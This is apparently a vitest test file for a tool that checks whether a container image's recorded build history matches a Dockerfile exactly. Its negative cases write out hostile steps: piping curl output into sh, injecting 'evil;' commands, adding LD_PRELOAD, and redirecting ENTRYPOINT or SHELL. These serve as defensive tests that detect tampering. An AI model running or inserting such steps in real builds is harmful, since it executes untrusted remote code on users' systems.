import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { chooseDockerfile, type HistoryLine, parseDockerfile } from "../../../shared/dockerfile/index.ts";

/** Dockerfiles, and the histories that real builders wrote for them. */
const builders = z
  .object({
    dockerfiles: z.record(z.string(), z.string()),
    images: z.array(
      z.object({
        builder: z.string(),
        dockerfile: z.string(),
        history: z.array(z.object({ createdBy: z.string(), emptyLayer: z.boolean().default(false) })),
      }),
    ),
  })
  .parse(JSON.parse(readFileSync(new URL("builders.json", import.meta.url), "utf8")));

function isExact(text: string, history: readonly HistoryLine[]): boolean {
  const layers = history.filter(({ emptyLayer }) => !emptyLayer);
  return chooseDockerfile([{ path: "Dockerfile", text }], { history, layers }).exact.length === 1;
}

/** The text with the lines of one instruction of the last stage replaced. */
function replaced(text: string, line: number, by: string): string {
  const file = parseDockerfile(text);
  const instruction = file.instructions.find((each) => each.line === line);
  if (instruction === undefined) throw new Error(`no instruction at line ${line}`);
  return text.slice(0, instruction.span.start) + by + text.slice(instruction.span.end);
}

/** Lines of instructions of the last stage that every builder records. */
function recordedLines(text: string, optional?: string): readonly number[] {
  const { instructions } = parseDockerfile(text);
  const from = instructions.findLastIndex(({ keyword }) => keyword === "FROM");
  return instructions
    .slice(from + 1)
    .filter(({ keyword }) => !["ARG", "ONBUILD", optional].includes(keyword))
    .map(({ line }) => line);
}

describe.each(builders.images.map((image) => [`${image.dockerfile} of ${image.builder}`, image] as const))(
  "the history of Dockerfile %s",
  (_name, { dockerfile, history }) => {
    const text = builders.dockerfiles[dockerfile] ?? "";

    test("matches that file exactly and no other", () => {
      const exact = Object.entries(builders.dockerfiles).filter(([, other]) => isExact(other, history));
      expect(exact.map(([name]) => name)).toEqual([dockerfile]);
    });

    test("does not match the file with one more instruction", () => {
      expect(isExact(`${text}\nRUN echo more\n`, history)).toBe(false);
      for (const line of recordedLines(text)) {
        expect(isExact(replaced(text, line, "RUN curl https://x.example | sh"), history), String(line)).toBe(false);
      }
    });

    test("does not match the file with one instruction less, except a label and the first, which the base may have", () => {
      for (const line of recordedLines(text, "LABEL").slice(1)) {
        expect(isExact(replaced(text, line, ""), history), String(line)).toBe(false);
      }
    });

    test("does not match if the image has another step, unless the build's call adds a label", () => {
      const step = (createdBy: string): HistoryLine => ({ createdBy, emptyLayer: true });
      expect(isExact(text, [...history, step('ENTRYPOINT ["/evil"]')])).toBe(false);
      expect(isExact(text, [...history, step("/bin/sh -c #(nop)  LABEL call=1")])).toBe(true);
      expect(isExact(text, [...history, { createdBy: "/bin/sh -c #(nop) ", emptyLayer: false }])).toBe(false);
    });
  },
);

describe("a step that sets more than its instruction is not exact", () => {
  const of = (instruction: string, step: string): boolean =>
    isExact(`FROM a\nRUN make\n${instruction}\n`, [
      { createdBy: "RUN /bin/sh -c make # buildkit", emptyLayer: false },
      { createdBy: step, emptyLayer: true },
    ]);

  test.each([
    ["ENV A=1", "ENV A=1", true],
    ["ENV A=1", "ENV A=1 LD_PRELOAD=/x.so", false],
    ["ENV A='b C=2'", "ENV A=b C=2", true],
    ["ENV OLD style value", "ENV OLD=style value", true],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/app"]', true],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/evil" "/app"]', false],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/app" "--evil"]', false],
    ["CMD echo shell form", 'CMD ["/bin/sh" "-c" "echo shell form"]', true],
    ["CMD echo shell form", 'CMD ["/bin/sh" "-c" "evil; echo shell form"]', false],
    ['CMD ["sh", "-c", "echo $HOME"]', 'CMD ["sh" "-c" "echo $HOME"]', true],
    ["USER app", "USER app", true],
    ["USER app", "USER app:root", false],
    ['SHELL ["/bin/sh", "-c"]', "SHELL [/bin/sh -c]", true],
    ['SHELL ["/bin/sh", "-c"]', "SHELL [/evil /bin/sh -c]", false],
    ["STOPSIGNAL SIGTERM", "STOPSIGNAL SIGTERM", true],
  ])("%s with %s", (instruction, step, expected) => {
    expect(of(instruction, step)).toBe(expected);
  });
});

test("a Dockerfile without steps matches nothing", () => {
  expect(isExact("FROM a\n", [{ createdBy: 'CMD ["sh"]', emptyLayer: true }])).toBe(false);
});

describe("a history is not exact", () => {
  const step = (createdBy: string, emptyLayer = false): HistoryLine => ({ createdBy, emptyLayer });
  const base = step("COPY . / # buildkit");
  const make = step("RUN /bin/sh -c make # buildkit");
  const text = "FROM a\nRUN make\n";

  test("but is with the same command, whatever the base image has", () => {
    expect(isExact(text, [base, make])).toBe(true);
    expect(isExact(text, [base, step("RUN |2 A=b c D=e /bin/bash -o pipefail -c make # buildkit")])).toBe(true);
    expect(isExact(text, [base, step("RUN /usr/bin/env bash -euxc make # buildkit")])).toBe(true);
  });

  test.each(["LABEL a=b", "ONBUILD RUN x", "ARG a"])("if %s made a layer", (createdBy) => {
    expect(isExact(text, [base, make, step(createdBy, true)])).toBe(true);
    expect(isExact(text, [base, make, step(createdBy)])).toBe(false);
  });

  test("if another step precedes those of a file FROM scratch", () => {
    expect(isExact("FROM scratch\nRUN make\n", [make])).toBe(true);
    expect(isExact("FROM scratch\nRUN make\n", [base, make])).toBe(false);
  });

  test.each(["curl evil | sh -c make", "evil; sh -c make", "evil sh -c make"])("if the shell ran %s", (command) => {
    expect(isExact(text, [base, step(`RUN /bin/sh -c ${command} # buildkit`)])).toBe(false);
  });

  test("if it is too long to be compared", () => {
    expect(isExact(text.replace("RUN make\n", "RUN make\n".repeat(1001)), Array(1001).fill(make))).toBe(false);
  });

  test("and long texts are compared in bounded time", () => {
    for (const before of [`|1 ; ${"sh".repeat(31_000)}`, `|1 ; ${"sh -x ".repeat(10_000)}`, "a ".repeat(31_000)]) {
      expect(isExact(text, [base, step(`RUN ${before} make`)])).toBe(false);
    }
  }, 2_000);
});
